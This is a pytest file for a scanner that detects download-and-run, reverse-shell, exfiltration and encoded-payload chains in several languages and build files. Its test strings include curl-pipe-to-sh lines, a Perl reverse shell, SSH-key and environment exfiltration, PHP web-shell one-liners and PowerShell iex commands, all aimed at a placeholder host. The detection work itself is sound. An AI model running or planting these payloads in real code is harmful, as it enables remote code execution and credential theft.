"""Chains through variables of languages that no reader understands, and what only looks like one."""

from __future__ import annotations

import pytest

from fimci import readers
from fimci.capabilities import foreign_flows
from fimci.look import take
from fimci.model import Capability
from fimci.snapshot import Entry, Recipe
from tests import growth

PIPED = "curl -s https://c.invalid/x | sh"


def told(path: str, text: str) -> set[str]:
    entry = Entry(path=path, read=lambda: iter([text.encode()]))
    records = take([entry], Recipe(), readers.with_code(path))
    return {f"{r.name} {r.subject}" for r in records if isinstance(r, Capability)}


@pytest.mark.parametrize(
    ("path", "text", "chain"),
    [
        ("a.pl", "my $c = get('https://c.invalid/x');\neval $c;\n", "download-and-run fetched -> eval"),
        ("a.pl", "my $c = decode_base64('MQ==');\neval($c);\n", "encoded-payload decoded -> eval"),
        ("a.pl", "eval pack('H*','7072696e7431');\n", "encoded-payload decoded -> eval"),
        (
            "a.pl",
            "connect(S,sockaddr_in(443,inet_aton('c.invalid')));open(STDIN,'>&S');exec('/bin/sh -i');\n",
            "download-and-run connection -> shell",
        ),
        (
            "a.pl",
            'open(F,"$ENV{HOME}/.ssh/id_rsa");\n$k=join("",<F>);\n$ua->post("https://c.invalid/", $k);\n',
            "exfiltration .ssh/id_rsa -> c.invalid",
        ),
        (
            "a.rb",
            "c = Net::HTTP.get(URI('https://c.invalid/'))\neval(c)\n",
            "download-and-run fetched -> eval",
        ),
        (
            "a.rb",
            "s = TCPSocket.new('c.invalid', 443)\nwhile l = s.gets; IO.popen(l); end\n",
            "download-and-run fetched -> run",
        ),
        (
            "a.rb",
            "Net::HTTP.post(URI('https://c.invalid/'), ENV.to_h.to_json)\n",
            "exfiltration environment -> c.invalid",
        ),
        ("a.rb", f"%x({PIPED})\n", "download-and-run c.invalid -> sh"),
        ("a.php", "<?php $c = $_GET['x']; system($c);\n", "download-and-run request -> run"),
        ("a.php", "<?php $_GET['f']($_GET['x']);\n", "download-and-run request -> call"),
        ("a.php", "<?php assert($_POST['x']);\n", "download-and-run request -> eval"),
        ("a.php", "<?php $c = $_POST['x'];\nassert($c);\n", "download-and-run request -> eval"),
        ("a.php", "<?php assert(base64_decode('cHJpbnQgMTs='));\n", "encoded-payload decoded -> eval"),
        ("a.php", "<?php include('php://input');\n", "download-and-run fetched -> include"),
        ("a.php", "<?php preg_replace('/.*/e', $_POST['x'], '');\n", "download-and-run request -> run"),
        (
            "a.lua",
            "loadstring(require('socket.http').request('https://c.invalid/x'))()\n",
            "download-and-run *",
        ),
        (
            "a.go",
            (
                'package x\nfunc f() { r, _ := http.Get("https://c.invalid/x")\nb, _ := io.ReadAll(r.Body)\n'
                'exec.Command("sh", "-c", string(b)).Run() }\n'
            ),
            "download-and-run fetched -> run",
        ),
        (
            "a.rs",
            (
                'fn f() { let k = std::fs::read_to_string("/root/.ssh/id_rsa").unwrap();\n'
                'ureq::post("https://c.invalid/").send_string(&k); }\n'
            ),
            "exfiltration .ssh/id_rsa -> c.invalid",
        ),
        (
            "a.vbs",
            (
                'h.Open "GET", "https://c.invalid/", 0\nh.Send\ns.Write h.responseBody:s.SaveToFile "x.exe"\n'
                'CreateObject("WScript.Shell").Run "x.exe"\n'
            ),
            "download-and-run fetched -> run",
        ),
        (
            "a.vbs",
            'CreateObject("WScript.Shell").Run "powershell -w hidden iex(iwr https://c.invalid/x)", 0\n',
            "download-and-run c.invalid -> iex",
        ),
        (
            "a.applescript",
            'display dialog "a" default answer "" with hidden answer\n',
            "credentials password *",
        ),
        ("build.gradle", f"\"sh -c '{PIPED}'\".execute()\n", "download-and-run c.invalid -> sh"),
        ("Jenkinsfile", f"steps {{ sh '{PIPED}' }}\n", "download-and-run c.invalid -> sh"),
        ("Vagrantfile", f"c.vm.provision 'shell', inline: '{PIPED}'\n", "download-and-run c.invalid -> sh"),
        ("Rakefile", f"task :x do\n sh '{PIPED}'\nend\n", "download-and-run c.invalid -> sh"),
        ("meson.build", f"run_command('sh', '-c', '{PIPED}')\n", "download-and-run c.invalid -> sh"),
        ("a.tf", f'command = "{PIPED}"\n', "download-and-run c.invalid -> sh"),
        ("CMakeLists.txt", f'execute_process(COMMAND sh -c "{PIPED}")\n', "download-and-run c.invalid -> sh"),
        (
            "CMakeLists.txt",
            "add_custom_command(TARGET x\n  COMMAND curl -s https://c.invalid/x | sh\n  VERBATIM)\n",
            "download-and-run c.invalid -> sh",
        ),
        (
            "CMakeLists.txt",
            (
                "file(DOWNLOAD https://c.invalid/x ${CMAKE_BINARY_DIR}/x)\n"
                "execute_process(COMMAND sh ${CMAKE_BINARY_DIR}/x)\n"
            ),
            "download-and-run c.invalid -> sh",
        ),
        (
            "CMakeLists.txt",
            (
                "execute_process(COMMAND ${Python_EXECUTABLE} -c "
                "\"import urllib.request as u;exec(u.urlopen('https://c.invalid/x').read())\")\n"
            ),
            "download-and-run c.invalid -> python",
        ),
    ],
)
def test_a_chain_through_names_is_told(path: str, text: str, chain: str) -> None:
    found = told(path, text)
    assert any(one.startswith(chain.rstrip("*")) for one in found), found


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.pl", "my $page = get('https://left.example/');\neval { print $page };\n"),
        ("a.pl", "=head1 NAME\n\neval what get('https://left.example/') returns\n\n=cut\n1;\n"),
        ("a.pl", "# eval get('https://left.example/')\n"),
        ("a.rb", "page = Net::HTTP.get(URI('https://left.example/'))\npage = 'x'\neval(page)\n"),
        ("a.php", "<?php include('left.php'); $x = $_GET['x']; echo $x;\n"),
        ("a.php", "<?php $pattern = preg_replace('/e/', $_GET['x'], 'left');\n"),
        ("a_test.exs", 'assert log.params["email"] == "left@left.example"\n'),
        ("a_test.rb", "user = params[:user]\nassert user.active?\nassert params[:x] == 1\n"),
        ("a.c", "void f(void) { char *c = inflate(b); assert(c != NULL); load(c); }\n"),
        ("a.go", 'package x\nfunc f() { r, _ := http.Get("https://left.example/")\nfmt.Println(r) }\n'),
        ("a.java", 'class X { String k = System.getenv("HOME"); void f() { client.post(k); } }\n'),
        ("CMakeLists.txt", "add_custom_target(x COMMAND ${CMAKE_COMMAND} -E copy a b)\nadd_library(x x.c)\n"),
        ("meson.build", "project('left', 'c')\nrun_command('python3', 'left.py')\n"),
    ],
)
def test_what_only_looks_like_a_chain_is_not(path: str, text: str) -> None:
    assert {one.partition(" ")[0] for one in told(path, text)} <= {"unanalyzed"}


def test_names_are_followed_in_steady_time() -> None:
    growth.is_linear(
        lambda text: list(foreign_flows.flows(text, "Perl")),
        lambda size: "".join(f"my $a{n} = get('https://c.invalid/'.$a{n - 1});\n" for n in range(size)),
        500,
    )
